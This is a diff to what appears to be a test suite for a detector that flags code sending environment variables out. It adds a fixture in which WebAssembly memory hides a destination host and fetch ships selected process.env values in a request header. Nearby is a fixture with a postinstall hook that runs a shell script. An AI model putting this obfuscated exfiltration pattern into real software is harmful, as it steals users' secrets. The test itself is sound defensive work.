@@ -17,6 +17,14 @@ function manyServices(url: string): string {
 examine(sendsEnvironment, {
   speaks: [
     {
+      when: 'where it goes, and which variables, stands in a part of a program of WebAssembly',
+      files: {
+        'index.js': `const { memory } = new WebAssembly.Instance(new WebAssembly.Module(Buffer.from('AGFzbQEAAAA=', 'base64'))).exports; const table = bytes => new TextDecoder().decode(bytes).split('\\0');
+          const share = async ([host, path, ...keys], hash) => { await fetch('https://' + host + path, { method: 'PUT', headers: { 'x-scope': keys.map(key => process.env[key] ?? '').join('.') } }); }; exports.done = hash => share(table(new Uint8Array(memory.buffer, 64, 256)), hash);`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a script of a shell that a hook starts gives Node a document to run',
       files: {
         'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'sh setup.sh' } },
